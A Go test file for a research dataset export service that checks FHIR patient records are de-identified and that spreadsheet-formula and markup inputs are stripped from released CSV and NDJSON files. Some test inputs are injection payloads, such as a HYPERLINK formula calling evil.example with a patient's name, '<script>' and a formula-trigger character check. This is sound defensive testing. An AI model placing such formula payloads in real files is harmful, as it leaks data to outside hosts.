package research

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

func TestDemographicsOf(t *testing.T) {
	full := `{"resourceType":"Patient","birthDate":"1961-07-04","gender":"male",
		"name":[{"family":"Quixote","given":["Zebulon"]}],
		"address":[{"line":["12 Windmill Lane"],"city":"La Mancha","postalCode":"02139-4307"},{"postalCode":"99999"}]}`
	d, err := demographicsOf([]byte(full))
	if err != nil {
		t.Fatal(err)
	}
	if want := (Demographics{BirthDate: "1961-07-04", Sex: "male", ZIP: "02139-4307"}); d != want {
		t.Errorf("demographicsOf = %+v, want %+v", d, want)
	}

	refusals := map[string]string{
		"not JSON":            `{"resourceType":`,
		"not a Patient":       `{"resourceType":"Observation","birthDate":"1961-07-04","gender":"male","address":[{"postalCode":"02139"}]}`,
		"no birthDate":        `{"resourceType":"Patient","gender":"male","address":[{"postalCode":"02139"}]}`,
		"partial birthDate":   `{"resourceType":"Patient","birthDate":"1961","gender":"male","address":[{"postalCode":"02139"}]}`,
		"birthDate not date":  `{"resourceType":"Patient","birthDate":"yesterday","gender":"male","address":[{"postalCode":"02139"}]}`,
		"no gender":           `{"resourceType":"Patient","birthDate":"1961-07-04","address":[{"postalCode":"02139"}]}`,
		"unknown gender":      `{"resourceType":"Patient","birthDate":"1961-07-04","gender":"M","address":[{"postalCode":"02139"}]}`,
		"no address":          `{"resourceType":"Patient","birthDate":"1961-07-04","gender":"male"}`,
		"no postalCode":       `{"resourceType":"Patient","birthDate":"1961-07-04","gender":"male","address":[{"city":"Boston"}]}`,
		"postalCode not US":   `{"resourceType":"Patient","birthDate":"1961-07-04","gender":"male","address":[{"postalCode":"SW1A 1AA"}]}`,
		"gender not a string": `{"resourceType":"Patient","birthDate":"1961-07-04","gender":1,"address":[{"postalCode":"02139"}]}`,
	}
	for name, raw := range refusals {
		t.Run(name, func(t *testing.T) {
			if d, err := demographicsOf([]byte(raw)); err == nil {
				t.Errorf("demographicsOf = %+v, want an error", d)
			}
		})
	}
}

func TestFactOf(t *testing.T) {
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, time.UTC) }
	tests := map[string]struct {
		raw  string
		want Fact
	}{
		"observation with a value": {
			`{"resourceType":"Observation","code":{"coding":[{"system":"http://loinc.org","code":"2345-7","display":"Glucose"},{"code":"x"}],"text":"glucose of Zebulon"},
			  "valueQuantity":{"value":5.40,"unit":"mmol/L","system":"http://unitsofmeasure.org","code":"mmol/L"},
			  "effectiveDateTime":"2025-01-15T08:30:00Z","issued":"2025-01-16T00:00:00Z"}`,
			Fact{Category: "labs", Code: "http://loinc.org|2345-7", Value: "5.4", Unit: "mmol/L", Date: time.Date(2025, 1, 15, 8, 30, 0, 0, time.UTC)},
		},
		"unit from the code": {
			`{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":1e2,"code":"g/L"},"effectiveDateTime":"2025-01-15"}`,
			Fact{Category: "labs", Code: "718-7", Value: "100", Unit: "g/L", Date: day(2025, 1, 15)},
		},
		"effective period": {
			`{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"effectivePeriod":{"start":"2024-12-31","end":"2025-01-02"}}`,
			Fact{Category: "labs", Code: "718-7", Date: day(2024, 12, 31)},
		},
		"condition": {
			`{"resourceType":"Condition","code":{"coding":[{"system":"http://snomed.info/sct","code":"44054006"}]},"onsetDateTime":"2019-03-02","recordedDate":"2020-01-01"}`,
			Fact{Category: "labs", Code: "http://snomed.info/sct|44054006", Date: day(2019, 3, 2)},
		},
		"medication request": {
			`{"resourceType":"MedicationRequest","medicationCodeableConcept":{"coding":[{"system":"http://www.nlm.nih.gov/research/umls/rxnorm","code":"860975"}]},"authoredOn":"2024-02-03"}`,
			Fact{Category: "labs", Code: "http://www.nlm.nih.gov/research/umls/rxnorm|860975", Date: day(2024, 2, 3)},
		},
		"immunization": {
			`{"resourceType":"Immunization","vaccineCode":{"coding":[{"system":"urn:oid:2.16.840.1.113883.12.292","code":"208"}]},"occurrenceDateTime":"2021-05-01T10:00:00+02:00"}`,
			Fact{Category: "labs", Code: "urn:oid:2.16.840.1.113883.12.292|208", Date: time.Date(2021, 5, 1, 8, 0, 0, 0, time.UTC)},
		},
		"a unit with an annotation": {
			`{"resourceType":"Observation","code":{"coding":[{"code":"8867-4"}]},"valueQuantity":{"value":-1.5,"unit":"{beats}/min"},"effectiveDateTime":"2025-01-15"}`,
			Fact{Category: "labs", Code: "8867-4", Value: "-1.5", Unit: "{beats}/min", Date: day(2025, 1, 15)},
		},
		"a value without a unit": {
			`{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":2},"effectiveDateTime":"2025-01-15"}`,
			Fact{Category: "labs", Code: "718-7", Value: "2", Date: day(2025, 1, 15)},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f, err := factOf("labs", []byte(tc.raw))
			if err != nil {
				t.Fatal(err)
			}
			if f.Category != tc.want.Category || f.Code != tc.want.Code || f.Value != tc.want.Value || f.Unit != tc.want.Unit || !f.Date.Equal(tc.want.Date) || f.ValueRefused {
				t.Errorf("factOf = %+v, want %+v", f, tc.want)
			}
		})
	}

	// A unit that is not a UCUM unit expression takes its value with it;
	// the fact keeps its code and date.
	valueRefusals := map[string]string{
		"unit too long":          `"value":5.4,"unit":"` + strings.Repeat("u", maxUnitLen+1) + `"`,
		"a formula as unit":      `"value":5.4,"unit":"=HYPERLINK(\"http://evil.example\")"`,
		"free text as unit":      `"value":5.4,"unit":"mg per dL"`,
		"a bad code, no unit":    `"value":5.4,"code":"mg dL"`,
		"a bad unit, good code":  `"value":5.4,"unit":"mg,dL","code":"mg"`,
		"a nested annotation":    `"value":5.4,"unit":"{a{b}}"`,
		"markup as unit":         `"value":5.4,"unit":"<script>"`,
		"a unit starting with +": `"value":5.4,"unit":"+mg"`,
	}
	for name, quantity := range valueRefusals {
		t.Run(name, func(t *testing.T) {
			raw := `{"resourceType":"Observation","code":{"coding":[{"code":"2345-7"}]},"valueQuantity":{` + quantity + `},"effectiveDateTime":"2025-01-15"}`
			f, err := factOf("labs", []byte(raw))
			if err != nil {
				t.Fatal(err)
			}
			if f.Code != "2345-7" || f.Value != "" || f.Unit != "" || !f.ValueRefused || !f.Date.Equal(day(2025, 1, 15)) {
				t.Errorf("factOf = %+v, want the code and date, no value or unit, ValueRefused", f)
			}
		})
	}

	long := strings.Repeat("9", maxCodeLen+1)
	refusals := map[string]string{
		"not JSON":              `[1,2`,
		"no code":               `{"resourceType":"Observation","effectiveDateTime":"2025-01-15"}`,
		"a coding without code": `{"resourceType":"Observation","code":{"coding":[{"system":"http://loinc.org","display":"Glucose"}]},"effectiveDateTime":"2025-01-15"}`,
		"text only":             `{"resourceType":"Observation","code":{"text":"glucose"},"effectiveDateTime":"2025-01-15"}`,
		"code too long":         `{"resourceType":"Observation","code":{"coding":[{"code":"` + long + `"}]},"effectiveDateTime":"2025-01-15"}`,
		"code with a newline":   `{"resourceType":"Observation","code":{"coding":[{"code":"a\nb"}]},"effectiveDateTime":"2025-01-15"}`,
		"code with a quote":     `{"resourceType":"Observation","code":{"coding":[{"code":"a\"b"}]},"effectiveDateTime":"2025-01-15"}`,
		"code with a space":     `{"resourceType":"Observation","code":{"coding":[{"code":"glucose of Zebulon"}]},"effectiveDateTime":"2025-01-15"}`,
		"code a formula":        `{"resourceType":"Observation","code":{"coding":[{"code":"=1+1"}]},"effectiveDateTime":"2025-01-15"}`,
		"code starting with -":  `{"resourceType":"Observation","code":{"coding":[{"code":"-1"}]},"effectiveDateTime":"2025-01-15"}`,
		"system not a URI":      `{"resourceType":"Observation","code":{"coding":[{"system":"rxnorm","code":"860975"}]},"effectiveDateTime":"2025-01-15"}`,
		"system with text":      `{"resourceType":"Observation","code":{"coding":[{"system":"http://loinc.org/call me","code":"2345-7"}]},"effectiveDateTime":"2025-01-15"}`,
		"no date":               `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":1}}`,
		"a date not parsing":    `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"effectiveDateTime":"last Tuesday"}`,
		"value out of range":    `{"resourceType":"Observation","code":{"coding":[{"code":"718-7"}]},"valueQuantity":{"value":1e999},"effectiveDateTime":"2025-01-15"}`,
	}
	for name, raw := range refusals {
		t.Run(name, func(t *testing.T) {
			if f, err := factOf("labs", []byte(raw)); err == nil {
				t.Errorf("factOf = %+v, want an error", f)
			}
		})
	}
}

// identifiers are values of elements that must never reach a file: names,
// identifiers, contacts, address lines, narrative and notes. Each is unique
// enough not to appear by chance.
var identifiers = []string{
	"Zebulon", "Quixote", "Zeb Q.", "MRN-7731-XQ", "078-05-1120", "zebulon.quixote@example.org", "617-555-0199",
	"12 Windmill Lane", "Apt 4B", "La Mancha", "Kingsport Hospital", "the patient reports dizziness",
	"Practitioner/dr-windmill", "Dr Sancho Panza", "http://hospital.example/mrn", "div xmlns", "ORD-99812",
	"1987-02-29", "Rocinante",
}

// identifyingPatient is a Patient resource holding every identifier.
func identifyingPatient(birth, zip string) map[string]any {
	return map[string]any{
		"resourceType": "Patient", "id": "Rocinante", "birthDate": birth, "gender": "female",
		"text":                 map[string]any{"status": "generated", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\">Zebulon Quixote</div>"},
		"identifier":           []any{map[string]any{"system": "http://hospital.example/mrn", "value": "MRN-7731-XQ"}, map[string]any{"system": "http://hl7.org/fhir/sid/us-ssn", "value": "078-05-1120"}},
		"name":                 []any{map[string]any{"family": "Quixote", "given": []any{"Zebulon"}, "text": "Zeb Q."}},
		"telecom":              []any{map[string]any{"system": "email", "value": "zebulon.quixote@example.org"}, map[string]any{"system": "phone", "value": "617-555-0199"}},
		"address":              []any{map[string]any{"line": []any{"12 Windmill Lane", "Apt 4B"}, "city": "La Mancha", "postalCode": zip}},
		"contact":              []any{map[string]any{"name": map[string]any{"text": "Dr Sancho Panza"}}},
		"managingOrganization": map[string]any{"display": "Kingsport Hospital"},
		"extension":            []any{map[string]any{"url": "http://example.org/wedding", "valueDate": "1987-02-29"}},
	}
}

// identifyingObservation is a lab result full of identifiers besides its
// code, value and date.
func identifyingObservation() map[string]any {
	o := observation("http://loinc.org", "2345-7", 6.1, "mmol/L", "2025-02-01T09:00:00Z")
	o["id"] = "Rocinante"
	o["identifier"] = []any{map[string]any{"value": "ORD-99812"}}
	o["subject"] = map[string]any{"reference": "Patient/Rocinante", "display": "Zebulon Quixote"}
	o["performer"] = []any{map[string]any{"reference": "Practitioner/dr-windmill", "display": "Dr Sancho Panza"}}
	o["note"] = []any{map[string]any{"text": "the patient reports dizziness; call 617-555-0199"}}
	o["code"].(map[string]any)["text"] = "glucose of Zebulon Quixote"
	o["code"].(map[string]any)["coding"].([]any)[0].(map[string]any)["display"] = "Glucose for Zeb Q."
	return o
}

// TestNoIdentifierReachesAFile builds a dataset from patients whose records
// are full of identifiers and looks for each in every released file.
func TestNoIdentifierReachesAFile(t *testing.T) {
	w := newWorld(t)
	var ids []string
	for i := range 4 {
		id := fmt.Sprintf("patient-%04d", i+1)
		ids = append(ids, id)
		w.addRecord(id, id+"-demo", "demographics", identifyingPatient(fmt.Sprintf("1970-03-1%d", i), "02139"))
		w.addRecord(id, id+"-lab", "labs", identifyingObservation())
		w.ledger.grant(id, researchOrg, "demographics", "labs")
	}
	for _, dates := range []DateRule{YearOnly, ShiftedDays} {
		spec := labsSpec()
		spec.Dates = dates
		d := w.released(spec)
		if n := len(w.csvRows(d.GetDatasetId())); n != 4 {
			t.Fatalf("dates %s: %d rows, want one lab result of each of the 4 patients", dates, n)
		}
		for _, file := range []string{FileCSV, FileNDJSON, FileManifest} {
			body := string(w.object(d.GetDatasetId(), file))
			for _, v := range append(identifiers, ids...) {
				if strings.Contains(body, v) {
					t.Errorf("dates %s: the %s file holds %q", dates, file, v)
				}
			}
		}
		status, _ := json.Marshal(d)
		for _, v := range append(identifiers, ids...) {
			if strings.Contains(string(status), v) {
				t.Errorf("dates %s: the status holds %q", dates, v)
			}
		}
	}
}

// TestNoFormulaOrFreeTextReachesAFile builds a dataset from records carrying
// a spreadsheet formula in a unit and free text in a code, a code system and
// a unit's code, and reads the files as a researcher's spreadsheet would.
func TestNoFormulaOrFreeTextReachesAFile(t *testing.T) {
	const freeText = "Zebulon Quixote"
	w := newWorld(t)
	w.cohort(4)
	formula := observation("http://loinc.org", "8867-4", 72, `=HYPERLINK("http://evil.example/?who=Zebulon Quixote","open")`, "2025-02-01")
	w.addRecord("patient-0001", "patient-0001-formula", "labs", formula)
	w.addRecord("patient-0002", "patient-0002-code", "labs", observation("http://loinc.org", "glucose of "+freeText, 5.4, "mmol/L", "2025-02-01"))
	w.addRecord("patient-0003", "patient-0003-system", "labs", observation("http://loinc.org/"+freeText, "2345-7", 5.4, "mmol/L", "2025-02-01"))
	unitCode := observation("http://loinc.org", "2951-2", 140, "", "2025-02-01")
	unitCode["valueQuantity"] = map[string]any{"value": 140, "code": "mmol/L for " + freeText}
	w.addRecord("patient-0004", "patient-0004-unit", "labs", unitCode)
	w.addRecord("patient-0004", "patient-0004-negative", "labs", observation("http://loinc.org", "1925-5", -1.5, "mmol/L", "2025-02-01"))

	d := w.released(labsSpec())
	csvBytes, ndjson := w.object(d.GetDatasetId(), FileCSV), w.object(d.GetDatasetId(), FileNDJSON)
	for name, body := range map[string][]byte{FileCSV: csvBytes, FileNDJSON: ndjson} {
		for _, v := range []string{"Zebulon", "HYPERLINK", "evil.example", "glucose"} {
			if strings.Contains(string(body), v) {
				t.Errorf("the %s file holds %q", name, v)
			}
		}
	}
	cells, err := csv.NewReader(bytes.NewReader(csvBytes)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := cells[0]
	for i, row := range cells {
		for j, cell := range row {
			if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r") {
				continue
			}
			// The one exception: a number the service wrote from a float.
			if _, err := strconv.ParseFloat(cell, 64); err != nil || !slices.Contains([]string{ColValue, ColMin, ColMax, ColMean}, header[j]) {
				t.Errorf("line %d, column %s: %q starts with a formula trigger", i+1, header[j], cell)
			}
		}
	}
	rows := w.csvRows(d.GetDatasetId())
	byCode := map[string][]map[string]string{}
	for _, r := range rows {
		byCode[r[ColCode]] = append(byCode[r[ColCode]], r)
	}
	if got := byCode["http://loinc.org|8867-4"]; len(got) != 1 || got[0][ColValue] != "" || got[0][ColUnit] != "" {
		t.Errorf("the record with a formula as unit has rows %v, want one without value or unit", got)
	}
	if got := byCode["http://loinc.org|2951-2"]; len(got) != 1 || got[0][ColValue] != "" || got[0][ColUnit] != "" {
		t.Errorf("the record with text as unit has rows %v, want one without value or unit", got)
	}
	if got := byCode["http://loinc.org|1925-5"]; len(got) != 1 || got[0][ColValue] != "-1.5" || got[0][ColUnit] != "mmol/L" {
		t.Errorf("the record with a negative value has rows %v, want it as the number -1.5 mmol/L", got)
	}
	if len(rows) != 4+3 {
		t.Errorf("%d rows, want the 4 lab results, the 2 records without a value and the negative one", len(rows))
	}
	ex := d.GetManifest().GetExcluded()
	if ex[exclRecordUnusable] != 2 || ex[exclRecordValueUnusable] != 2 {
		t.Errorf("manifest excluded %v, want 2 records without a usable code and 2 values without a UCUM unit", ex)
	}
}
